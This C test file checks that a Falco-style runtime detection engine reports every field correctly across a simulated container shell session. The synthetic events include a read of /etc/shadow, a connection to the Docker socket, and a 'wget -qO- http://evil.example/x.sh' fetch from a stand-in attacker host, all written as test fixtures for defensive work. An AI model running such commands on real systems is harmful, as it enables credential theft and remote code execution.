/* Every field of the registry on the events of one scenario, as Falco prints them: a shell in
 * a container (metadata from RUNTIME) three levels below init, reading a file, writing one it
 * creates, connecting over TCP/IPv4, accepting over IPv6, using a unix socket and a pipe,
 * executing a program and failing an open. Each event's fields are compared line by line with
 * the expected table below ("name=value", "(missing)" when the field has no value), so a change
 * in any field's value, or a field that appears or disappears, fails with its name. */
#pragma GCC diagnostic ignored "-Wformat-truncation"
#include "tt_test.h"

#include "engine_test_events.h"
#include "state_priv.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/un.h>

static struct eval_ctx ctx;
static struct tev e;
static uint64_t evn;

#define CID "3f4e5d6c7b8a9f0e1d2c3b4a5f6e7d8c9b0a1f2e3d4c5b6a7f8e9d0c1b2a3f4e"

static void apply(struct engine_state *st, const struct tt_event *ev)
{
    state_begin_event(st, ev, ++evn, &ctx);
    state_end_event(st, &ctx);
}

static void snapshot(struct engine_state *st, int32_t pid, int32_t ppid, const char *comm,
                     const char *exepath, const char *args, const char *cwd, uint64_t uid,
                     const char *cid, int32_t sid, int32_t pgid, uint64_t tty)
{
    tev_begin(&e, TT_EV_PROCINFO, pid, pid);
    tt_evb_str(&e.b, TT_P_EXE, comm);
    char tmp[256];
    snprintf(tmp, sizeof tmp, "%s", args);
    size_t len = strlen(tmp);
    for (size_t i = 0; i < len; i++)
        if (tmp[i] == ' ')
            tmp[i] = '\0';
    if (len)
        tt_evb_bytes(&e.b, TT_P_ARGS, TT_PK_STRLIST, tmp, len + 1);
    tt_evb_str(&e.b, TT_P_EXEPATH, exepath);
    tt_evb_str(&e.b, TT_P_CWD, cwd);
    tt_evb_str(&e.b, TT_P_COMM, comm);
    tt_evb_i64(&e.b, TT_P_PTID, ppid);
    tt_evb_u64(&e.b, TT_P_P_UID, uid);
    tt_evb_u64(&e.b, TT_P_P_EUID, uid);
    tt_evb_u64(&e.b, TT_P_P_GID, uid);
    tt_evb_u64(&e.b, TT_P_P_EGID, uid);
    tt_evb_i64(&e.b, TT_P_LOGINUID, uid ? (int64_t)uid : 4294967295LL);
    tt_evb_u64(&e.b, TT_P_CLONE_TS, 1700000000000000000ull - (uint64_t)pid * 1000000000ull);
    tt_evb_i64(&e.b, TT_P_P_SID, sid);
    tt_evb_i64(&e.b, TT_P_P_PGID, pgid);
    tt_evb_u64(&e.b, TT_P_TTY, tty);
    tt_evb_u64(&e.b, TT_P_CAP_EFF, uid ? 0 : (1ull << 21));
    tt_evb_u64(&e.b, TT_P_CAP_PRM, uid ? 0 : (1ull << 21));
    tt_evb_u64(&e.b, TT_P_FDLIMIT, 1024);
    tt_evb_i64(&e.b, TT_P_VPID, pid - 290 > 0 ? pid - 290 : pid);
    tt_evb_str(&e.b, TT_P_CONTAINER_ID, cid);
    tt_evb_u64(&e.b, TT_P_PIDNS_INIT_TS, 1690000000000000000ull);
    static const char env[] = "HOME=/root\0TERM=xterm\0";
    tt_evb_bytes(&e.b, TT_P_ENV, TT_PK_STRLIST, env, sizeof env);
    apply(st, tev_end(&e, 0));
}

/* "name=value\n" for every field of the registry that takes no argument. */
static char dump[65536];
static const char *dump_fields(void)
{
    size_t o = 0;
    dump[0] = '\0';
    for (size_t i = 0; i < fld_count(); i++) {
        const struct fld_info *fi = fld_at(i);
        if (fi->flags & (FF_ARG_REQUIRED | FF_FILTER_ONLY | FF_HIDDEN))
            continue;
        if (!strcmp(fi->name, "evt.hostname") || !strncmp(fi->name, "evt.time", 8) ||
            !strncmp(fi->name, "evt.datetime", 12) || strstr(fi->name, "duration") ||
            !strcmp(fi->name, "evt.latency"))
            continue; /* the machine's name and the wall clock */
        char v[4096];
        if (tev_field(&ctx, fi->name, NULL, v, sizeof v) == -1)
            snprintf(v, sizeof v, "(missing)");
        o += (size_t)snprintf(dump + o, sizeof dump - o, "%s=%s\n", fi->name, v);
    }
    return dump;
}

/* The lines of want ("name=value\n"...) that differ from the dump. */
static void check_fields(const char *what, const char *want)
{
    const char *have = dump_fields();
    const char *w = want;
    while (*w) {
        tt_checks_current++; /* one check per expected line */
        const char *eol = strchr(w, '\n');
        size_t n = eol ? (size_t)(eol - w) : strlen(w);
        const char *eq = memchr(w, '=', n);
        if (!eq) {
            TT_FAILF("%s: bad expectation line %.*s", what, (int)n, w);
            return;
        }
        /* find "name=" at a line start in have */
        char key[128];
        snprintf(key, sizeof key, "%.*s", (int)(eq - w + 1), w);
        const char *h = have;
        const char *found = NULL;
        while (h && *h) {
            if (!strncmp(h, key, strlen(key))) {
                found = h;
                break;
            }
            h = strchr(h, '\n');
            if (h)
                h++;
        }
        if (!found) {
            TT_FAILF("%s: no field %.*s", what, (int)(eq - w), w);
            return;
        }
        const char *fe = strchr(found, '\n');
        size_t fn = fe ? (size_t)(fe - found) : strlen(found);
        if (fn != n || memcmp(found, w, n) != 0) {
            TT_FAILF("%s: %.*s, want %.*s", what, (int)fn, found, (int)n, w);
            return;
        }
        w += n + (eol ? 1 : 0);
    }
}

/* ---- the scenario: one event per step, its fields checked while it is the current one ---- */

#define NSTEPS 10
static const char *const expected[NSTEPS];
static const char *const step_names[NSTEPS] = {
    "open_read",    "open_create_write",
    "connect_tcp4", "accept_tcp6",
    "connect_unix", "pipe",
    "execve",       "open_failed",
    "thread_close", "unknown_thread_no_result",
};

static int print_mode;

static void step(struct engine_state *st, int i, const struct tt_event *ev)
{
    state_begin_event(st, ev, ++evn, &ctx);
    if (print_mode) {
        printf("    /* %s */\n", step_names[i]);
        const char *d = dump_fields();
        while (*d) {
            const char *eol = strchr(d, '\n');
            printf("    \"");
            for (const char *c = d; c < eol; c++)
                printf(*c == '"' || *c == '\\' ? "\\%c" : "%c", *c);
            printf("\\n\"\n");
            d = eol + 1;
        }
        printf("    ,\n");
    } else {
        check_fields(step_names[i], expected[i]);
    }
    state_end_event(st, &ctx);
}

static void sin4(unsigned id, const char *ip, uint16_t port)
{
    tev_sin(&e, id, ip, port);
}

static void sin6(unsigned id, const char *ip, uint16_t port)
{
    struct sockaddr_in6 s6;
    memset(&s6, 0, sizeof s6);
    s6.sin6_family = AF_INET6;
    s6.sin6_port = htons(port);
    inet_pton(AF_INET6, ip, &s6.sin6_addr);
    tt_evb_bytes(&e.b, id, TT_PK_SOCKADDR, &s6, sizeof s6);
}

static void run_scenario(void)
{
    struct state_opts o = {.no_proc_lookup = 1, .host_root = "/nonexistent"};
    struct engine_state *st = state_new_opts(&o);
    snapshot(st, 1, 0, "init", "/sbin/init", "", "/", 0, "host", 1, 1, 0);
    snapshot(st, 290, 1, "containerd-shim", "/usr/bin/containerd-shim", "-id " CID, "/", 0, "host",
             290, 290, 0);
    snapshot(st, 300, 290, "bash", "/bin/bash", "-i", "/root", 0, CID, 300, 300, 34816);
    snapshot(st, 301, 300, "curl", "/usr/bin/curl", "-s https://example.com", "/root", 1000, CID,
             300, 301, 34816);
    state_set_container_meta(st, CID, "web", "nginx:1.25", "nginx", "1.25", 1);

    tev_begin(&e, TT_EV_OPENAT, 300, 300);
    tt_evb_i64(&e.b, TT_P_DIRFD, AT_FDCWD);
    tt_evb_str(&e.b, TT_P_NAME, "../etc/./shadow");
    tt_evb_u64(&e.b, TT_P_FLAGS, O_RDONLY | O_CLOEXEC);
    tt_evb_u64(&e.b, TT_P_MODE, 0);
    tt_evb_u64(&e.b, TT_P_DEV, 2049);
    tt_evb_u64(&e.b, TT_P_INO, 1234);
    step(st, 0, tev_end(&e, 3));

    tev_begin(&e, TT_EV_OPEN, 301, 301);
    tt_evb_str(&e.b, TT_P_NAME, "/tmp/out.txt");
    tt_evb_u64(&e.b, TT_P_FLAGS, O_WRONLY | O_CREAT | O_TRUNC);
    tt_evb_u64(&e.b, TT_P_MODE, 0644);
    step(st, 1, tev_end(&e, 4));

    tev_begin(&e, TT_EV_SOCKET, 301, 301);
    tt_evb_i64(&e.b, TT_P_DOMAIN, AF_INET);
    tt_evb_i64(&e.b, TT_P_TYPE, SOCK_STREAM);
    tt_evb_i64(&e.b, TT_P_PROTO, 0);
    apply(st, tev_end(&e, 5));
    tev_begin(&e, TT_EV_CONNECT, 301, 301);
    tt_evb_i64(&e.b, TT_P_FD, 5);
    sin4(TT_P_ADDR, "93.184.216.34", 443);
    sin4(TT_P_LOCAL_ADDR, "172.17.0.2", 40000);
    step(st, 2, tev_end(&e, 0));

    tev_begin(&e, TT_EV_SOCKET, 300, 300);
    tt_evb_i64(&e.b, TT_P_DOMAIN, AF_INET6);
    tt_evb_i64(&e.b, TT_P_TYPE, SOCK_STREAM);
    apply(st, tev_end(&e, 6));
    tev_begin(&e, TT_EV_BIND, 300, 300);
    tt_evb_i64(&e.b, TT_P_FD, 6);
    sin6(TT_P_ADDR, "::", 8443);
    apply(st, tev_end(&e, 0));
    tev_begin(&e, TT_EV_ACCEPT4, 300, 300);
    tt_evb_i64(&e.b, TT_P_FD, 6);
    sin6(TT_P_ADDR, "2001:db8::7", 51000);
    sin6(TT_P_LOCAL_ADDR, "2001:db8::2", 8443);
    tt_evb_i64(&e.b, TT_P_FLAGS, SOCK_CLOEXEC);
    step(st, 3, tev_end(&e, 7));

    tev_begin(&e, TT_EV_CONNECT, 300, 300);
    tt_evb_i64(&e.b, TT_P_FD, 8);
    tt_evb_i64(&e.b, TT_P_DOMAIN, AF_UNIX);
    tt_evb_i64(&e.b, TT_P_TYPE, SOCK_STREAM);
    struct sockaddr_un u;
    memset(&u, 0, sizeof u);
    u.sun_family = AF_UNIX;
    strcpy(u.sun_path, "/run/docker.sock");
    tt_evb_bytes(&e.b, TT_P_ADDR, TT_PK_SOCKADDR, &u, sizeof u);
    step(st, 4, tev_end(&e, 0));

    tev_begin(&e, TT_EV_PIPE2, 300, 300);
    tt_evb_i64(&e.b, TT_P_FD1, 9);
    tt_evb_i64(&e.b, TT_P_FD2, 10);
    tt_evb_u64(&e.b, TT_P_FLAGS, O_CLOEXEC);
    tt_evb_u64(&e.b, TT_P_INO, 5555);
    step(st, 5, tev_end(&e, 0));

    tev_begin(&e, TT_EV_EXECVE, 301, 301);
    tt_evb_str(&e.b, TT_P_FILENAME, "/usr/bin/wget");
    tt_evb_str(&e.b, TT_P_EXE, "wget");
    static const char wargs[] = "-qO-\0http://evil.example/x.sh\0";
    tt_evb_bytes(&e.b, TT_P_ARGS, TT_PK_STRLIST, wargs, sizeof wargs);
    tt_evb_str(&e.b, TT_P_EXEPATH, "/usr/bin/wget");
    tt_evb_u64(&e.b, TT_P_EXE_FLAGS, TT_EXE_UPPER_LAYER | TT_EXE_WRITABLE);
    tt_evb_u64(&e.b, TT_P_EXE_INO, 424242);
    tt_evb_u64(&e.b, TT_P_EXE_CTIME, 1699999999000000000ull);
    tt_evb_u64(&e.b, TT_P_EXE_MTIME, 1699999998000000000ull);
    step(st, 6, tev_end(&e, 0));

    tev_begin(&e, TT_EV_OPENAT, 301, 301);
    tt_evb_i64(&e.b, TT_P_DIRFD, 4);
    tt_evb_str(&e.b, TT_P_NAME, "missing.conf");
    tt_evb_u64(&e.b, TT_P_FLAGS, O_RDWR);
    step(st, 7, tev_end(&e, -2));

    tev_begin(&e, TT_EV_CLONE, 300, 300);
    tt_evb_i64(&e.b, TT_P_CHILD_TID, 305);
    tt_evb_u64(&e.b, TT_P_CLONE_FLAGS, CLONE_THREAD | CLONE_VM | CLONE_FILES);
    apply(st, tev_end(&e, 305));
    tev_begin(&e, TT_EV_CLOSE, 305, 300);
    tt_evb_i64(&e.b, TT_P_FD, 9);
    step(st, 8, tev_end(&e, 0));

    /* a thread of a process never seen, on an fd never seen, an event without a result: what
     * the state does not know is missing, never a value left over from another process */
    tev_begin(&e, TT_EV_CLOSE, 777, 776);
    tt_evb_i64(&e.b, TT_P_FD, 5);
    step(st, 9, tev_end(&e, TT_RET_NONE));
    state_free(st);
}

TT_TEST(every_field_along_a_shell_session_in_a_container)
{
    run_scenario();
}

int main(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "--print")) { /* regenerates the table after a change */
        print_mode = 1;
        run_scenario();
        return 0;
    }
    return tt_run_all();
}

/* The fields of each step, reviewed against Falco's field documentation. After a deliberate
 * change of a field, regenerate with `build/tests/test_engine_fields_table --print`, and
 * review the difference. */
static const char *const expected[NSTEPS] = {
#include "fields_table.inc"
};
